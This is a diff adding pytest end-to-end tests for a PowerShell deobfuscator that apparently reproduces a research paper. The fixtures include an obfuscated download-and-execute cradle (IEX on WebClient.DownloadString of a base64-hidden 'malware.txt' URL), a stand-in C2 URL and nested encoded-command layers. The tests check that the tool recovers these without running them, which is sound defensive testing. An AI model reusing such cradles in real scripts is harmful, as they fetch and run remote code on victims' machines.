@@ -1,0 +1,133 @@
+"""End-to-end tests for the full Deobfuscator pipeline."""
+
+import base64
+
+from repro import Deobfuscator, deobfuscate
+
+
+def enc(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+class TestEndToEnd:
+    def test_clean_script_unchanged_semantically(self):
+        result = deobfuscate("Write-Host hello")
+        assert result.script == "Write-Host hello"
+        assert not result.changed
+
+    def test_l1_ticking_alias_case(self):
+        result = deobfuscate("I`E`X ('wri'+'te-host hi')")
+        assert result.script.strip() == "Write-Host hi"
+
+    def test_l2_concat(self):
+        result = deobfuscate("$x = 'mal'+'ware'")
+        assert "'malware'" in result.script
+
+    def test_l3_base64(self):
+        payload = base64.b64encode("https://c2.test/x".encode()).decode()
+        script = (
+            "$u = [Text.Encoding]::UTF8.GetString("
+            f"[Convert]::FromBase64String('{payload}'))"
+        )
+        result = deobfuscate(script)
+        assert "'https://c2.test/x'" in result.script
+
+    def test_invalid_input_returned(self):
+        result = deobfuscate("'unterminated")
+        assert not result.valid_input
+        assert result.script == "'unterminated"
+
+    def test_result_metadata(self):
+        result = deobfuscate("iex ('a'+'b')")
+        assert result.iterations >= 1
+        assert result.elapsed_seconds >= 0
+        assert isinstance(result.stats, dict)
+
+    def test_layers_recorded(self):
+        result = deobfuscate("iex 'iex ''write-host x'''")
+        assert len(result.layers) >= 1
+
+
+class TestPaperCaseStudy:
+    """Fig 7: the paper's running example, end to end."""
+
+    CASE = (
+        "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
+        "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
+        "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
+        "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
+        "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
+        ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
+        ".downloadstring($sdfs)"
+    )
+
+    def test_final_output_matches_fig7d(self):
+        result = deobfuscate(self.CASE)
+        lines = result.script.splitlines()
+        assert lines[0] == "Write-Host hello"
+        assert lines[1].startswith("$var0 = 'aAB0AHQAcABzADoALwAv")
+        assert lines[2].startswith("$var1 = '8AbQAvAG0AYQBsAHcAYQBy")
+        assert lines[3] == "$var2 = 'https://test.com/malware.txt'"
+        assert lines[4].startswith(".('iex')")
+        assert "'https://test.com/malware.txt'" in lines[4]
+
+    def test_network_sink_not_executed(self):
+        # downloadstring is on the blocklist: it must survive as code.
+        result = deobfuscate(self.CASE)
+        assert "DownloadString(" in result.script
+
+    def test_url_recovered(self):
+        result = deobfuscate(self.CASE)
+        assert "https://test.com/malware.txt" in result.script
+
+
+class TestAblationFlags:
+    def test_no_token_phase(self):
+        tool = Deobfuscator(token_phase=False, rename=False, reformat=False)
+        result = tool.deobfuscate("I`E`X 'write-host x'")
+        # The AST phase resolves the command via alias knowledge in the
+        # multilayer unwrapper, but the tick removal is token-phase work.
+        assert result.script == "write-host x"
+
+    def test_no_ast_phase(self):
+        tool = Deobfuscator(ast_phase=False, rename=False, reformat=False)
+        result = tool.deobfuscate("$x = 'a'+'b'")
+        assert "'a'+'b'" in result.script
+
+    def test_no_variable_tracing(self):
+        tool = Deobfuscator(trace_variables=False, rename=False,
+                            reformat=False)
+        result = tool.deobfuscate("$u = 'a'+'b'; use $u")
+        assert "use $u" in result.script
+
+    def test_no_multilayer(self):
+        tool = Deobfuscator(multilayer=False, rename=False, reformat=False)
+        result = tool.deobfuscate("iex 'write-host x'")
+        assert "Invoke-Expression" in result.script
+
+    def test_no_rename(self):
+        tool = Deobfuscator(rename=False)
+        result = tool.deobfuscate("$xqzjw = 'a'+'b'")
+        assert "$xqzjw" in result.script
+
+    def test_no_reformat(self):
+        tool = Deobfuscator(reformat=False, rename=False)
+        result = tool.deobfuscate("write-host     hi")
+        assert "     " in result.script
+
+
+class TestMultiLayerFixpoint:
+    def test_deeply_nested_layers(self):
+        script = "write-host core"
+        for _ in range(4):
+            script = f"powershell -enc {enc(script)}"
+        result = deobfuscate(script)
+        assert result.script.strip().lower() == "write-host core"
+
+    def test_max_iterations_terminates(self):
+        tool = Deobfuscator(max_iterations=2)
+        script = "write-host x"
+        for _ in range(6):
+            script = f"powershell -enc {enc(script)}"
+        result = tool.deobfuscate(script)
+        assert result.iterations <= 2
